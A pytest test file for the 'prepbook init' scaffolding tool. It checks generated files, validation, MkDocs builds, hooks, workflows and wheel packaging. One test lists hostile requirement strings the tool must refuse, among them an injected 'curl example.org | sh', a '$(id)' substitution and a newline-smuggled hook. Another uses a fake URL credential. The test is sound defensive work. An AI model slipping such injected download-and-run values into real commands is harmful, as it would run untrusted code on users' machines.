"""``prepbook init``: a playbook repository of one's own that validates, builds and
publishes from the first minute, and the wheel that makes it possible without this
repository."""

from __future__ import annotations

import calendar
import datetime as dt
import json
import os
import re
import shlex
import shutil
import subprocess
import sys
import sysconfig
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml

from prepbook import __version__
from prepbook.docs import schema
from prepbook.scaffold import STARTER, STARTER_ID, TEMPLATES
from tests.conftest import REPO, dated
from tests.test_diff import GIT_ENV
from tests.test_workflows import FIRST_PARTY, SHA, USES

MODELINE = "# yaml-language-server: $schema="
BIN = Path(sys.executable).parent


def epoch(day: dt.date) -> str:
    return str(calendar.timegm(day.timetuple()))


def environment(**extra: str) -> dict[str, str]:
    """This environment's tools first on the PATH, as an activated virtual environment."""
    base = dated(
        {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}", "NO_MKDOCS_2_WARNING": "1"}
    )
    return {**base, **extra}  # a date given here wins over the pinned one


def run(command: list[str], cwd: Path, env: dict[str, str] | None = None, timeout: int = 300):
    return subprocess.run(
        command,
        cwd=cwd,
        env=env or environment(),
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def prepbook(*args: str, cwd: Path, env: dict[str, str] | None = None):
    return run([sys.executable, "-m", "prepbook", *args], cwd, env)


def mkdocs(*args: str, cwd: Path, env: dict[str, str] | None = None):
    return run([sys.executable, "-m", "mkdocs", *args], cwd, env)


class Links(HTMLParser):
    """Every link of a page, and those of its navigation (the theme's ``md-nav``) apart."""

    def __init__(self) -> None:
        super().__init__()
        self.hrefs: list[str] = []
        self.nav_hrefs: list[str] = []
        self._nav_depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "nav" and "md-nav" in (found.get("class") or ""):
            self._nav_depth += 1
        if tag == "a" and found.get("href"):
            href = found["href"] or ""
            (self.nav_hrefs if self._nav_depth else self.hrefs).append(href)

    def handle_endtag(self, tag: str) -> None:
        if tag == "nav" and self._nav_depth:
            self._nav_depth -= 1


def links_of(page: Path) -> Links:
    parser = Links()
    parser.feed(page.read_text(encoding="utf-8"))
    return parser


def as_json_data(text: str) -> object:
    """A workshop file as an editor's YAML plugin sees it: dates stay strings."""

    class Loader(yaml.SafeLoader):
        pass

    Loader.add_constructor("tag:yaml.org,2002:timestamp", lambda loader, node: node.value)
    return yaml.load(text, Loader=Loader)


def site_config(root: Path) -> dict[str, object]:
    """A mkdocs.yml as MkDocs reads it: ``!ENV [NAME, default]`` gives the default here."""

    class Loader(yaml.SafeLoader):
        pass

    Loader.add_constructor("!ENV", lambda loader, node: loader.construct_sequence(node)[-1])
    return yaml.load((root / "mkdocs.yml").read_text(encoding="utf-8"), Loader=Loader)


def modeline_target(file: Path) -> Path:
    first = file.read_text(encoding="utf-8").splitlines()[0]
    assert first.startswith(MODELINE), first
    return (file.parent / first.removeprefix(MODELINE)).resolve()


@pytest.fixture(scope="module")
def initialised(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A playbook written by ``prepbook init`` into a new folder, as a user runs it."""
    root = tmp_path_factory.mktemp("init") / "my-playbook"
    done = prepbook("init", str(root), cwd=root.parent)
    assert done.returncode == 0, done.stderr
    return root


def test_init_writes_every_file_of_a_playbook(initialised: Path) -> None:
    written = sorted(
        p.relative_to(initialised).as_posix() for p in initialised.rglob("*") if p.is_file()
    )
    assert written == sorted([*TEMPLATES.values(), "docs/schema/workshop.schema.json"])
    config = site_config(initialised)
    assert config["site_name"] == "My playbook"  # made from the folder's name
    assert config["docs_dir"] == "docs"
    assert config["theme"]["font"] is False
    assert {"prepbook": {"workshops": "workshops"}} in config["plugins"]
    assert config["validation"] == yaml.safe_load((REPO / "mkdocs.yml").read_text())["validation"]
    text = (initialised / "mkdocs.yml").read_text()
    assert "# repo_url: " in text and "# edit_uri: " in text
    assert (initialised / "docs" / "schema" / "workshop.schema.json").read_text() == (
        schema.schema_text()
    )
    readme = (initialised / "README.md").read_text()
    for command in ("prepbook new", "prepbook validate", "mkdocs serve", "mkdocs build"):
        assert command in readme
    assert "repo_url" in readme and "diff.prepbook.textconv" in readme


def test_the_new_playbook_validates_with_no_finding_at_all(initialised: Path) -> None:
    done = prepbook("validate", "--strict", cwd=initialised)
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.strip() == "checked 1 file: 0 errors, 0 warnings, 0 info"
    assert prepbook("schema", "--check", cwd=initialised).returncode == 0


def test_the_new_playbook_builds_strictly_with_a_home_page_showing_the_starter(
    initialised: Path, tmp_path: Path
) -> None:
    site = tmp_path / "site"
    done = mkdocs("build", "--strict", "--site-dir", str(site), cwd=initialised)
    assert done.returncode == 0, done.stderr
    home = site / "index.html"
    text = home.read_text(encoding="utf-8")
    assert "<title>My playbook</title>" in text
    assert "Reorder reminders for consumables" in text  # the starter's committed priority
    assert "<!-- prepbook: at a glance -->" not in text  # the marker was replaced
    links = links_of(home)
    workshop = f"playbook/workshops/{STARTER_ID}/"
    assert any(h.startswith(workshop) for h in links.hrefs)
    assert (site / "playbook" / "workshops" / STARTER_ID / "index.html").is_file()
    # the navigation holds the sections, never the workshop pages
    assert "playbook/roadmap/" in links.nav_hrefs
    assert not any("workshops/" in h for h in links.nav_hrefs)
    assert json.loads((site / "schema" / "workshop.schema.json").read_text()) == (
        schema.workshop_schema()
    )


def test_an_offline_build_opens_from_the_disk(initialised: Path, tmp_path: Path) -> None:
    """Material's offline plugin, switched on by OFFLINE=true: pages addressed as files."""
    site = tmp_path / "site"
    env = environment(OFFLINE="true")
    done = mkdocs("build", "--strict", "--site-dir", str(site), cwd=initialised, env=env)
    assert done.returncode == 0, done.stderr
    hrefs = links_of(site / "index.html").hrefs
    assert f"playbook/workshops/{STARTER_ID}.html#priority-reorder-reminders" in hrefs
    assert (site / "playbook" / "workshops" / f"{STARTER_ID}.html").is_file()
    assert (site / "search" / "search_index.js").is_file()


def test_the_starter_points_editors_at_a_schema_that_accepts_it(initialised: Path) -> None:
    starter = initialised / STARTER
    target = modeline_target(starter)
    assert target == (initialised / "docs" / "schema" / "workshop.schema.json").resolve()
    document = json.loads(target.read_text(encoding="utf-8"))
    assert document["$id"] == "urn:prepbook:schema:workshop:1"
    validator = jsonschema.Draft7Validator(document)
    assert not list(validator.iter_errors(as_json_data(starter.read_text(encoding="utf-8"))))
    misspelt = starter.read_text(encoding="utf-8").replace("readiness: ready", "readyness: ready")
    assert list(validator.iter_errors(as_json_data(misspelt)))


def test_the_starter_stays_clean_for_a_year(tmp_path: Path) -> None:
    """Its dates are counted from the day it is written (SOURCE_DATE_EPOCH), so it has no
    finding for a year, then the review it asks for is due; the same day writes the same
    files, byte for byte."""
    day = dt.date(2031, 5, 17)
    for name in ("a", "b"):
        on_the_day = environment(SOURCE_DATE_EPOCH=epoch(day))
        done = prepbook("init", name, "--name", "Ours", cwd=tmp_path, env=on_the_day)
        assert done.returncode == 0, done.stderr
    first, second = (
        {p.relative_to(root): p.read_bytes() for p in root.rglob("*") if p.is_file()}
        for root in (tmp_path / "a", tmp_path / "b")
    )
    assert first == second and len(first) == len(TEMPLATES) + 1
    starter = (tmp_path / "a" / STARTER).read_text()
    assert "start: 2031-05-17" in starter
    late = day + dt.timedelta(days=364)
    clean = prepbook(
        "validate", "--strict", cwd=tmp_path / "a", env=environment(SOURCE_DATE_EPOCH=epoch(late))
    )
    assert clean.returncode == 0 and "0 errors, 0 warnings, 0 info" in clean.stdout
    overdue = prepbook(
        "validate",
        "--strict",
        cwd=tmp_path / "a",
        env=environment(SOURCE_DATE_EPOCH=epoch(late + dt.timedelta(days=2))),
    )
    assert overdue.returncode == 1 and "warning[PB360]" in overdue.stdout


def test_init_refuses_to_overwrite_and_writes_nothing(tmp_path: Path) -> None:
    root = tmp_path / "taken"
    (root / "docs").mkdir(parents=True)
    (root / "README.md").write_text("ours\n")
    (root / "docs" / "index.md").write_text("our home\n")
    done = prepbook("init", "taken", cwd=tmp_path)
    assert done.returncode == 2
    assert "already has README.md, docs/index.md; nothing was written" in done.stderr
    assert sorted(p.name for p in root.rglob("*")) == ["README.md", "docs", "index.md"]
    assert (root / "README.md").read_text() == "ours\n"

    # a file where the playbook needs a folder is a conflict too
    blocked = tmp_path / "blocked"
    blocked.mkdir()
    (blocked / "workshops").write_text("not a folder\n")
    done = prepbook("init", "blocked", cwd=tmp_path)
    assert done.returncode == 2 and STARTER in done.stderr
    assert [p.name for p in blocked.iterdir()] == ["workshops"]

    (tmp_path / "a-file").write_text("x\n")
    assert prepbook("init", "a-file", cwd=tmp_path).returncode == 2


def test_init_with_a_name(tmp_path: Path) -> None:
    name = 'Northwind: "personalization" playbook #1'
    done = prepbook("init", "here", "--name", name, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    config = site_config(tmp_path / "here")
    assert config["site_name"] == name  # quoted in YAML, read back as written
    assert (tmp_path / "here" / "docs" / "index.md").read_text().startswith(f"# {name}\n")
    assert prepbook("init", "there", "--name", "  ", cwd=tmp_path).returncode == 2
    assert not (tmp_path / "there").exists()


def test_new_in_an_initialised_playbook_names_a_schema_that_exists(tmp_path: Path) -> None:
    assert prepbook("init", "book", cwd=tmp_path).returncode == 0
    root = tmp_path / "book"
    for args in (("new", "acme"), ("new", "deep-one", "--dir", "workshops/team-a")):
        done = prepbook(*args, cwd=root)
        assert done.returncode == 0, done.stderr
        assert "does not exist" not in done.stderr
    for created in (root / "workshops" / "acme.yaml", root / "workshops/team-a/deep-one.yaml"):
        assert modeline_target(created) == (root / "docs" / schema.SCHEMA_FILE).resolve()


def test_new_in_this_repository_names_its_schema(tmp_path: Path) -> None:
    """Here the schema is under content/, as this repository's mkdocs.yml says."""
    done = prepbook(
        "--config", str(REPO / "mkdocs.yml"), "new", "side", "--dir", str(tmp_path), cwd=tmp_path
    )
    assert done.returncode == 0, done.stderr
    assert modeline_target(tmp_path / "side.yaml") == (REPO / "content" / schema.SCHEMA_FILE)


def test_new_says_when_the_schema_it_names_is_missing(tmp_path: Path) -> None:
    (tmp_path / "mkdocs.yml").write_text("site_name: x\ndocs_dir: pages\n")
    done = prepbook("new", "lonely", cwd=tmp_path)
    assert done.returncode == 0
    assert (
        modeline_target(tmp_path / "workshops" / "lonely.yaml")
        == (tmp_path / "pages" / schema.SCHEMA_FILE).resolve()
    )
    assert (
        "pages/schema/workshop.schema.json, which does not exist; write it with "
        "'prepbook schema --output pages/schema/workshop.schema.json'"
    ) in done.stderr


def test_the_pre_commit_hook_is_valid_and_pinned(initialised: Path) -> None:
    config = initialised / ".pre-commit-config.yaml"
    done = run([str(BIN / "pre-commit"), "validate-config", str(config)], initialised)
    assert done.returncode == 0, done.stdout + done.stderr
    [repo] = yaml.safe_load(config.read_text())["repos"]
    [hook] = repo["hooks"]
    assert repo["repo"] == "local"
    assert hook["entry"] == "prepbook validate" and hook["language"] == "python"
    assert hook["additional_dependencies"] == [f"prepbook=={__version__}"]
    assert hook["always_run"] is True and hook["pass_filenames"] is False


def test_the_hook_runs_under_pre_commit(initialised: Path, tmp_path: Path) -> None:
    """pre-commit itself runs the hook on a commit that breaks the starter. The hook runs
    with this environment's prepbook (``language: system``): the pinned one would be
    installed from the package index, and the tests stay offline."""
    root = tmp_path / "repo"
    assert prepbook("init", str(root), cwd=tmp_path).returncode == 0
    config = root / ".pre-commit-config.yaml"
    document = yaml.safe_load(config.read_text())
    [hook_config] = document["repos"][0]["hooks"]
    assert hook_config.pop("additional_dependencies") == [f"prepbook=={__version__}"]
    hook_config["language"] = "system"
    config.write_text(yaml.safe_dump(document))
    env = environment(**{k: v for k, v in GIT_ENV.items() if k.startswith("GIT_")})
    env["PRE_COMMIT_HOME"] = str(tmp_path / "pre-commit-home")
    for command in (["git", "init", "-q", "-b", "main"], ["git", "add", "-A"]):
        assert run(command, root, env).returncode == 0
    hook = [str(BIN / "pre-commit"), "run", "--all-files"]
    passed = run(hook, root, env)
    assert passed.returncode == 0, passed.stdout + passed.stderr
    starter = root / STARTER
    starter.write_text(starter.read_text().replace("phase: pilot\n", "phase: later\n", 1))
    failed = run(hook, root, env)
    assert failed.returncode == 1 and "error[PB2" in failed.stdout


def test_the_diff_driver_works_as_the_readme_says(tmp_path: Path) -> None:
    """The new playbook's README commands, run from the top of a clone whose ``.venv``
    holds prepbook, with a PATH that knows nothing of it."""
    root = tmp_path / "repo"
    assert prepbook("init", str(root), cwd=tmp_path).returncode == 0
    (root / ".venv").symlink_to(sys.prefix, target_is_directory=True)
    readme = (root / "README.md").read_text()
    commands = re.findall(r"^git config diff\.prepbook\..*$", readme, flags=re.MULTILINE)
    assert len(commands) == 2, commands
    env = {**GIT_ENV, "PATH": "/usr/bin:/bin"}

    def sh(script: str) -> str:
        done = run(["sh", "-c", script], root, env)
        assert done.returncode == 0, done.stderr
        return done.stdout

    sh("git init -q -b main && git add -A && git commit -q -m 'A playbook'")
    sh(" && ".join(commands))
    assert sh(f"git check-attr diff {STARTER}").strip() == f"{STARTER}: diff: prepbook"
    starter = root / STARTER
    starter.write_text(starter.read_text().replace("baseline: 31", "baseline: 29"))
    changed = [line for line in sh("git diff").splitlines() if line.startswith(("-", "+"))]
    assert changed[-2:] == [
        "-metric repeat-purchase-rate baseline: 31",
        "+metric repeat-purchase-rate baseline: 29",
    ], changed


def _workflow(root: Path, name: str) -> dict[str, object]:
    return yaml.safe_load((root / ".github" / "workflows" / name).read_text())


@pytest.mark.parametrize("name", ["review.yml", "publish.yml"])
def test_the_workflows_follow_the_conventions(initialised: Path, name: str) -> None:
    path = initialised / ".github" / "workflows" / name
    lines = [m for line in path.read_text().splitlines() if (m := USES.match(line))]
    assert lines
    for match in lines:
        assert SHA.fullmatch(match["ref"]) and match["action"].startswith(FIRST_PARTY)
    document = _workflow(initialised, name)
    assert document["permissions"] == {}
    runs = []
    for job in document["jobs"].values():
        assert job["permissions"] and "write-all" not in json.dumps(job["permissions"])
        for step in job["steps"]:
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
            runs.append(step.get("run", ""))
    assert f'pip install "prepbook=={__version__}"' in runs
    if name == "review.yml":
        assert document[True] == "pull_request"  # YAML 1.1 reads the key 'on' as true
        assert "prepbook validate --strict --format github" in runs
        assert "mkdocs build --strict" in runs
    else:
        assert document[True]["push"] == {"branches": ["main"]}
        # not --strict: a review date that passes must not stop the site being published
        assert any(re.search(r"\bmkdocs build$", r) for r in runs)
        assert any("prepbook validate" in r and "GITHUB_STEP_SUMMARY" in r for r in runs)
        assert document["jobs"]["deploy"]["needs"] == "build"
        assert document["jobs"]["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}


def test_the_fetch_workflow_runs_only_by_hand_until_configured(initialised: Path) -> None:
    path = initialised / ".github" / "workflows" / "fetch.yml"
    text = path.read_text()
    for match in (m for line in text.splitlines() if (m := USES.match(line))):
        assert SHA.fullmatch(match["ref"]) and match["action"].startswith(FIRST_PARTY)
    document = _workflow(initialised, "fetch.yml")
    assert document[True] == {"workflow_dispatch": None}  # the schedule is a comment
    assert '  # schedule:\n  #   - cron: "17 6 * * 1-5"' in text
    assert document["permissions"] == {}
    [job] = document["jobs"].values()
    assert job["permissions"] == {"contents": "write", "pull-requests": "write"}
    runs = [step.get("run", "") for step in job["steps"]]
    assert f'pip install "prepbook=={__version__}"' in runs
    assert runs[-1].rstrip().endswith("prepbook fetch --pr")
    env = job["steps"][-1]["env"]
    assert set(env) == {"GH_TOKEN", "PREPBOOK_JIRA_USER", "PREPBOOK_JIRA_TOKEN"}
    # unconfigured, the command it runs says what is missing, as a usage problem
    done = prepbook("fetch", cwd=initialised)
    assert done.returncode == 2 and "no tracker_sources" in done.stderr


def test_the_workflows_commands_pass_on_the_new_playbook(tmp_path: Path) -> None:
    """Every shell step but the install, run in a fresh clone as the runner runs it."""
    root = tmp_path / "repo"
    assert prepbook("init", str(root), cwd=tmp_path).returncode == 0
    summary = tmp_path / "step-summary.md"
    env = environment(
        **{k: v for k, v in GIT_ENV.items() if k.startswith("GIT_")},
        GITHUB_ACTIONS="true",
        GITHUB_STEP_SUMMARY=str(summary),
    )
    for command in (["git", "init", "-q", "-b", "main"], ["git", "add", "-A"]):
        assert run(command, root, env).returncode == 0
    assert run(["git", "commit", "-q", "-m", "A playbook"], root, env).returncode == 0
    for name in ("review.yml", "publish.yml"):
        for job in _workflow(root, name)["jobs"].values():
            for step in job["steps"]:
                command = step.get("run")
                if command is None or command.startswith("pip install"):
                    continue
                done = run(
                    ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", command], root, env
                )
                assert done.returncode == 0, (name, command, done.stdout, done.stderr)
    assert (root / "site" / "index.html").is_file()
    assert "checked 1 file: 0 errors, 0 warnings, 0 info" in summary.read_text()


# --- the wheel, installed where this repository is not ---------------------------------


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The wheel built from this repository's sources, offline (no build isolation, no
    downloads). The sources are copied first: a build writes its scratch folders next to
    them, and the clone stays as it was."""
    source = tmp_path_factory.mktemp("source")
    for name in ("pyproject.toml", "README.md", "LICENSE"):
        shutil.copy(REPO / name, source / name)
    shutil.copytree(
        REPO / "prepbook", source / "prepbook", ignore=shutil.ignore_patterns("__pycache__")
    )
    out = tmp_path_factory.mktemp("dist")
    done = run(
        [
            *(sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation"),
            *("--no-index", "--wheel-dir", str(out), str(source)),
        ],
        source,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    [built] = out.glob("prepbook-*.whl")
    return built


@pytest.mark.slow  # builds a wheel: the release's check, run by CI
def test_the_wheel_ships_the_schema_the_templates_and_the_license(wheel: Path) -> None:
    with zipfile.ZipFile(wheel) as archive:
        names = set(archive.namelist())
        assert archive.read("prepbook/docs/workshop.schema.json").decode() == schema.schema_text()
        metadata = archive.read(f"prepbook-{__version__}.dist-info/METADATA").decode()
    for template in TEMPLATES:
        assert f"prepbook/scaffold/files/{template}" in names
    assert any(
        n.startswith(f"prepbook-{__version__}.dist-info/") and n.endswith("LICENSE") for n in names
    )
    assert "License-File: LICENSE" in metadata


@pytest.mark.slow  # builds and installs a wheel: the release's check, run by CI
def test_the_installed_wheel_starts_a_playbook_that_validates_and_builds(
    wheel: Path, tmp_path: Path
) -> None:
    """The issue's "done when": in an empty folder, a fresh virtual environment with the
    wheel installed, ``prepbook init``, then ``validate --strict`` and ``mkdocs build
    --strict`` with that environment's programs. Its dependencies come from this
    environment through a ``.pth`` line, which adds the folder but none of the ``.pth``
    files in it, so this repository's editable install stays out of sight."""
    empty = tmp_path / "empty"
    empty.mkdir()
    venv = empty / ".venv"
    made = run([sys.executable, "-m", "venv", str(venv)], empty)
    assert made.returncode == 0, made.stderr
    python = venv / "bin" / "python"
    installed = run(
        [str(python), "-m", "pip", "install", "--no-index", "--no-deps", str(wheel)], empty
    )
    assert installed.returncode == 0, installed.stdout + installed.stderr
    site_packages = Path(
        run(
            [str(python), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"], empty
        ).stdout.strip()
    )
    ours = {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]}
    (site_packages / "test-dependencies.pth").write_text("\n".join(sorted(ours)) + "\n")
    env = {key: value for key, value in environment().items() if key not in ("PYTHONPATH",)}
    env["PATH"] = f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}"
    env["VIRTUAL_ENV"] = str(venv)

    where = run([str(python), "-c", "import prepbook; print(prepbook.__file__)"], empty, env)
    assert Path(where.stdout.strip()).is_relative_to(venv), where.stdout + where.stderr
    assert not Path(where.stdout.strip()).is_relative_to(REPO)

    init = run([str(venv / "bin" / "prepbook"), "init", "my-playbook"], empty, env)
    assert init.returncode == 0, init.stderr
    root = empty / "my-playbook"
    validate = run([str(venv / "bin" / "prepbook"), "validate", "--strict"], root, env)
    assert validate.returncode == 0, validate.stdout + validate.stderr
    assert "0 errors, 0 warnings, 0 info" in validate.stdout
    build = run([str(python), "-m", "mkdocs", "build", "--strict"], root, env)
    assert build.returncode == 0, build.stderr
    home = (root / "site" / "index.html").read_text(encoding="utf-8")
    assert "Reorder reminders for consumables" in home
    assert f"playbook/workshops/{STARTER_ID}/" in home
    assert modeline_target(root / STARTER).is_file()


# --- how the new playbook installs prepbook --------------------------------------------


def install_lines(root: Path) -> dict[str, str]:
    """The requirement each place of a new playbook installs prepbook with: the hook's
    additional dependency, and the requirement of each workflow's ``pip install``."""
    config = yaml.safe_load((root / ".pre-commit-config.yaml").read_text())
    [hook] = config["repos"][0]["hooks"]
    [dependency] = hook["additional_dependencies"]
    found = {"pre-commit hook": dependency}
    for name in ("review.yml", "publish.yml"):
        workflow = yaml.safe_load((root / ".github" / "workflows" / name).read_text())
        runs = [s["run"] for job in workflow["jobs"].values() for s in job["steps"] if "run" in s]
        [install] = [r for r in runs if r.startswith("pip install")]
        [requirement] = shlex.split(install)[2:]  # as the runner's shell reads the line
        found[name] = requirement
    return found


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ("0.3.1", "prepbook==0.3.1"),
        ("prepbook>=0.1,<0.3", "prepbook>=0.1,<0.3"),
        (
            "git+https://someone:pa55w0rd@example.org/team/prepbook@v0.1.0",
            "prepbook @ git+https://example.org/team/prepbook@v0.1.0",
        ),
        (
            "https://example.org/prepbook-0.1.0.whl",
            "prepbook @ https://example.org/prepbook-0.1.0.whl",
        ),
    ],
)
def test_requirement_sets_every_pin(tmp_path: Path, given: str, written: str) -> None:
    done = prepbook("init", "book", "--requirement", given, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert set(install_lines(tmp_path / "book").values()) == {written}
    assert f'pip install "{written}"' in (tmp_path / "book" / "README.md").read_text()
    assert f"prepbook is installed by: {written}" in done.stderr
    # a credential in the address given is never written (the fetch workflow's comments
    # name the repository's secrets, which is no credential)
    written_files = "".join(p.read_text() for p in (tmp_path / "book").rglob("*.y*ml"))
    assert "pa55w0rd" not in written_files and "someone" not in written_files


@pytest.mark.parametrize(
    "given",
    [
        'prepbook==0.1.0" && curl example.org | sh && echo "',
        "prepbook @ git+https://example.org/x@v1 $(id)",
        "prepbook @ git+https://example.org/x@v1 #",
        "flask==2.0",
        "javascript://x",
        "no-such-path",
        "0.1.0\nhooks: [evil.py]",
    ],
)
def test_a_requirement_that_is_not_one_is_refused(tmp_path: Path, given: str) -> None:
    done = prepbook("init", "book", "--requirement", given, cwd=tmp_path)
    assert done.returncode == 2 and done.stderr.startswith("prepbook init: --requirement: ")
    assert len(done.stderr.splitlines()) == 1 and not (tmp_path / "book").exists()


def test_the_pins_follow_how_prepbook_was_installed() -> None:
    """Read off the installation's direct_url.json (PEP 610)."""
    from importlib import metadata

    from prepbook.scaffold.requirement import installed_pin

    class Installed(metadata.Distribution):
        def __init__(self, direct_url: str | None) -> None:
            self.direct_url = direct_url

        def read_text(self, filename: str) -> str | None:
            return self.direct_url if filename == "direct_url.json" else None

        def locate_file(self, path: Any) -> Path:
            raise NotImplementedError

    def pin(direct_url: object) -> tuple[str, bool]:
        found = installed_pin(Installed(None if direct_url is None else json.dumps(direct_url)))
        return found.requirement, found.note is not None

    version = f"prepbook=={__version__}"
    assert pin(None) == (version, False)  # from the package index
    git_install = {
        "url": "https://example.org/team/prepbook",
        "vcs_info": {"vcs": "git", "requested_revision": "v0.1.0", "commit_id": "a" * 40},
    }
    assert pin(git_install) == ("prepbook @ git+https://example.org/team/prepbook@v0.1.0", False)
    del git_install["vcs_info"]["requested_revision"]  # type: ignore[attr-defined]
    assert pin(git_install)[0] == f"prepbook @ git+https://example.org/team/prepbook@{'a' * 40}"
    wheel_url = {"url": "https://example.org/prepbook-0.1.0-py3-none-any.whl", "archive_info": {}}
    assert pin(wheel_url) == (f"prepbook @ {wheel_url['url']}", False)
    # from this machine only: the version, and a note that says why
    assert pin({"url": "file:///tmp/prepbook", "dir_info": {"editable": True}}) == (version, True)
    assert pin({"url": "file:///tmp/p.whl", "archive_info": {}}) == (version, True)


@pytest.mark.slow  # builds and installs a wheel: the release's check, run by CI
def test_the_written_install_lines_resolve_offline_from_a_local_wheel(
    wheel: Path, tmp_path: Path
) -> None:
    """What the hook and both workflows install resolves to the wheel, with no index: by
    version from a folder of wheels (as an index would serve it), and by path."""
    for given in (__version__, str(wheel)):
        root = tmp_path / f"book-{len(given)}"
        done = prepbook("init", str(root), "--requirement", given, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        for place, requirement in install_lines(root).items():
            target = tmp_path / "installed" / place / str(len(given))
            installed = run(
                [
                    *(sys.executable, "-m", "pip", "install", "--no-index", "--no-deps"),
                    *("--find-links", str(wheel.parent), "--target", str(target), requirement),
                ],
                tmp_path,
            )
            assert installed.returncode == 0, (place, requirement, installed.stderr)
            assert (target / "prepbook" / "__init__.py").is_file(), place
    assert "only this machine can install from" in done.stderr  # the path's note


@pytest.mark.slow  # builds and installs a wheel: the release's check, run by CI
def test_the_release_tries_its_wheel_as_the_workflow_says(wheel: Path, tmp_path: Path) -> None:
    """The release workflow's check of the wheel, its shell lines run as they stand, with
    the wheel built here in dist/ and the dependencies of this environment in sight (the
    runner downloads them)."""
    release = yaml.safe_load((REPO / ".github" / "workflows" / "release.yml").read_text())
    [script] = [
        s["run"]
        for s in release["jobs"]["build"]["steps"]
        if "init new-playbook" in s.get("run", "")
    ]
    workspace, runner = tmp_path / "workspace", tmp_path / "runner"
    (workspace / "dist").mkdir(parents=True)
    shutil.copy(wheel, workspace / "dist")
    venv = runner / "try"
    assert run([sys.executable, "-m", "venv", str(venv)], tmp_path).returncode == 0
    purelib = run(
        [
            str(venv / "bin" / "python"),
            "-c",
            "import sysconfig; print(sysconfig.get_paths()['purelib'])",
        ],
        tmp_path,
    ).stdout.strip()
    ours = {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]}
    (Path(purelib) / "test-dependencies.pth").write_text("\n".join(sorted(ours)) + "\n")
    env = {
        **{k: v for k, v in environment().items() if k != "PYTHONPATH"},
        "RUNNER_TEMP": str(runner),
        "GITHUB_REF_NAME": f"v{__version__}",
        "PIP_NO_INDEX": "1",
    }
    done = run(["bash", "-e", "-o", "pipefail", "-c", script], workspace, env)
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
    assert "0 errors, 0 warnings, 0 info" in done.stdout
    assert (runner / "new-playbook" / "site" / "index.html").is_file()
    where = run(
        [str(venv / "bin" / "python"), "-c", "import prepbook; print(prepbook.__file__)"],
        tmp_path,
        env,
    )
    assert Path(where.stdout.strip()).is_relative_to(venv)
